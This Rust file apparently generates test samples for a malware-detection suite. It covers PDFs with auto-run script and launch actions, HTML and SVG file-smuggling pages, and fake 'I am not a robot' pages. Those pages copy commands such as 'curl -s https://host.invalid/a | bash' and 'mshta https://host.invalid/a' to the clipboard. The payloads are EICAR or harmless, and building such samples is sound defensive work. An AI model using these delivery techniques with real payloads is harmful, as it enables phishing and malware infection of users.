//! A13, A16, A17, A18: PDF documents, pages, pictures that are pages.

use crate::Standin;
use crate::build::page::{html, pdf, pdf_of, pdf_stream};
use crate::build::{base64, eicar, mail, zip};

const PAGES: &str = "detect/pages";
const PDFS: &str = "detect/pdfs";
const LEAVES: &str = "<< /Type /Pages /Kids [] /Count 0 >>";

pub(super) fn all() -> Vec<Standin> {
    let document =
        |name, what, catalog: &str| Standin::new("A13", PDFS, name, what, pdf(&[catalog, LEAVES])).kind("pdf");
    let action = |action: &str| format!("<< /Type /Catalog /Pages 2 0 R /OpenAction << {action} >> >>");
    let embedded = pdf_of(&[
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.com) 3 0 R] >> >> >>".to_vec(),
        LEAVES.into(),
        b"<< /Type /Filespec /F (a.com) /UF (a.com) /EF << /F 4 0 R >> >>".to_vec(),
        pdf_stream("/Type /EmbeddedFile", &eicar()),
    ]);
    let script = b"this.exportDataObject({ cName: 'a', nLaunch: 2 });".to_vec();
    let in_stream = pdf_of(&[
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 3 0 R >> >>".to_vec(),
        LEAVES.into(),
        pdf_stream("", &script),
    ]);
    let coded = base64(&eicar());
    let smuggled = |name, what, body: String| {
        Standin::new("A16", PAGES, name, what, html("", &body)).kind("html").technique("T1027.006").blocked()
    };
    let fix = |what, body: &str| {
        Standin::new("A17", PAGES, "check.html", what, html("", body)).kind("html").technique("T1204.004").suspicious()
    };
    let veiled_page = |name, what, body: String| {
        Standin::new("A16", PAGES, name, what, html("", &body)).kind("html").technique("T1027.006")
    };
    let veiled: Vec<String> = eicar().iter().map(|byte| (byte ^ 90).to_string()).collect();
    let numbers: Vec<String> = eicar().iter().map(ToString::to_string).collect();
    let clipboard = "<p>To prove that you are human: press <b>Win + R</b>, then <b>Ctrl + V</b>, then Enter.</p><button onclick=\"navigator.clipboard.writeText('powershell -w hidden -c echo hello')\">I am not a robot</button>";
    let command = "<h1>Verification</h1><p>Press Windows key + R, paste with CTRL+V and press OK.</p><script>function copy() { const t = document.createElement('textarea'); t.value = 'mshta https://host.invalid/a'; document.body.append(t); t.select(); document.execCommand('copy'); }</script><button onclick=\"copy()\">Verify</button>";
    let terminal = "<p>Open Terminal, paste this command and press Return:</p><button onclick=\"navigator.clipboard.writeText('curl -s https://host.invalid/a | bash')\">Copy</button>";
    let svg = |inner: &str| {
        format!("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\">{inner}</svg>").into_bytes()
    };
    let mht = format!(
        "From: <Saved by Stand-in>\r\nSubject: page\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"; type=\"text/html\"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: file:///a.htm\r\n\r\n<html><body>see</body></html>\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Location: file:///a.com\r\n\r\n{coded}\r\n--b--\r\n"
    );
    vec![
        document("script.pdf", "a script that runs when the document opens", &action("/S /JavaScript /JS (app.alert\\(1\\))")).finds("pdf.runs-by-itself").held(),
        document("launch.pdf", "an action that launches a program", &action("/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>")).finds("pdf.launch").technique("T1204.002").held(),
        document("share.pdf", "an action that goes to a share", &action("/S /GoToR /F (\\\\\\\\host.invalid\\\\share\\\\a.pdf) /D [0 /Fit]")).technique("T1187").held(),
        document("hex.pdf", "an action under a name in hexadecimal", "<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /#4aavaScript /JS <6170702e616c657274283129> >> >>").finds("pdf.runs-by-itself").held(),
        Standin::new("A13", "formats/pdf", "attached.pdf", "an embedded file", embedded).payload("a.com"),
        Standin::new("A13", PDFS, "export.pdf", "a script that opens an embedded file", in_stream).kind("pdf").held(),
        veiled_page("offer.html", "a page that hides a file in a form and spells nothing out", format!("<body onload=\"go()\"><input type=hidden id=q value=\"{coded}\"><script>function go(){{var v=document.all.q.value;var w=window[\"at\"+\"ob\"](v);var n=w.length,u=new Uint8Array(n);while(n--)u[n]=w.charCodeAt(n);var k=window[\"Bl\"+\"ob\"];var b=new k([u]);var a=document.createElement(\"a\");a.href=window.URL[\"createObject\"+\"URL\"](b);a.download=\"a.com\";a.click()}}</script></body>")).malicious().blocked(),
        veiled_page("offer.html", "a page that makes a file of veiled numbers", format!("<script>var d=[{}];var o=new Uint8Array(d.length);for(var i=0;i<d.length;i++)o[i]=d[i]^90;var f=new File([o],\"a.zip\");location.href=URL.createObjectURL(f);</script>", veiled.join(","))).suspicious().held(),
        fix("a page that copies a command in pieces", "<p>Press the Windows key + X and choose Terminal.</p><button>OK</button><script>const p=[\"power\",\"shell\",\" -c \",\"echo hello\"];document.querySelector(\"button\").onclick=()=>navigator.clipboard.writeText(p.join(\"\"))</script>").held(),
        fix("a page that copies a command in percent codes", "<p>I am not a robot</p><script>addEventListener(\"copy\",e=>{e.clipboardData.setData(\"text/plain\",decodeURIComponent(\"%70%6f%77%65%72shell%20-c%20echo%20hello\"));e.preventDefault()})</script>").blocked(),
        fix("a page that copies a command in numbers", "<p>I am not a robot</p><script>navigator.clipboard.writeText([112,111,119,101,114,115,104,101,108,108,32,45,99,32,101,99,104,111].map(c=>String.fromCharCode(c)).join(''))</script>").blocked(),
        document("scan.pdf", "a PDF that opens an address by itself", &action("/S /URI /URI (https://host.invalid/offer.exe)")).finds("pdf.opens-address").held(),
        Standin::new("A18", PAGES, "offer.html", "a page that goes to a file share", html("", "<meta http-equiv=\"refresh\" content=\"0;url=file://host.invalid/share/a\">")).technique("T1187").held(),
        Standin::new("A18", PAGES, "offer.html", "a page that shows the files of another machine", html("", "<script>location.href=\"search-ms:query=offer&crumb=location:\\\\\\\\host.invalid\\\\share&displayname=Downloads\"</script>")).technique("T1187").held(),
        Standin::new("A18", PAGES, "offer.xsl", "a style sheet with a script that starts a program", b"<?xml version=\"1.0\"?><stylesheet xmlns=\"http://www.w3.org/1999/XSL/Transform\" xmlns:ms=\"urn:schemas-microsoft-com:xslt\" version=\"1.0\"><ms:script language=\"JScript\"><![CDATA[new ActiveXObject(\"WScript.Shell\").Run(\"calc\");]]></ms:script></stylesheet>".to_vec()).proves("detect/scripts").finds("script.runs-program").held(),
        smuggled("atob.html", "a page that assembles a file from base64", format!("<a id=\"l\" download=\"a.com\">wait</a><script>var d = atob(\"{coded}\"); var b = new Blob([d], {{type: 'octet/stream'}}); l.href = URL.createObjectURL(b); l.click();</script>")).payload(""),
        smuggled("data.html", "a page with a data address and a download name", format!("<a href=\"data:application/octet-stream;base64,{coded}\" download=\"a.com\" id=\"l\">wait</a><script>document.getElementById('l').click()</script>")),
        smuggled("bytes.html", "a page that assembles a file from numbers", format!("<script>var b = new Uint8Array([{}]); var u = URL.createObjectURL(new Blob([b])); var l = document.createElement('a'); l.href = u; l.download = 'a.com'; l.click();</script>", numbers.join(","))),
        smuggled("save.html", "a page that saves through msSaveBlob", format!("<script>var d = \"{coded}\"; navigator.msSaveOrOpenBlob(new Blob([atob(d)]), 'a.com');</script>")),
        Standin::new("A16", "formats/html", "data-link.html", "a payload in a data address", html("", &format!("<a href=\"data:application/octet-stream;base64,{coded}\">a</a>"))).payload("data"),
        Standin::new("A17", PAGES, "robot.html", "a page that asks to paste into Win+R", html("", clipboard)).technique("T1204.004").held(),
        Standin::new("A17", PAGES, "verify.html", "a page that copies mshta by execCommand", html("", command)).technique("T1204.004").held(),
        Standin::new("A17", PAGES, "terminal.html", "a page that asks to paste into a terminal", html("", terminal)).technique("T1204.004").held(),
        Standin::new("A18", "formats/html", "title.svg", "an SVG with a script", svg("<script>document.title = 'hello'</script>")).kind("svg").part("", "js-embedded").technique("T1027.017").held(),
        Standin::new("A18", PAGES, "page.svg", "an SVG that carries a page which assembles a file", svg(&format!("<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><a id=\"l\" download=\"a.com\" href=\"data:application/octet-stream;base64,{coded}\">a</a><script>document.getElementById('l').click()</script></body></foreignObject>"))).kind("svg").technique("T1027.017").blocked(),
        Standin::new("A18", "formats/mail", "page.mht", "an MHT with a payload", mht.into()).kind("mht").payload("a.com"),
        Standin::new("A18", "formats/mail", "offer.eml", "a mail with an archive with a payload", mail::with_attachment("See the attachment.", "offer.zip", &zip::of(&[("offer.com", &eicar())]))).kind("eml").payload("offer.com"),
    ]
}
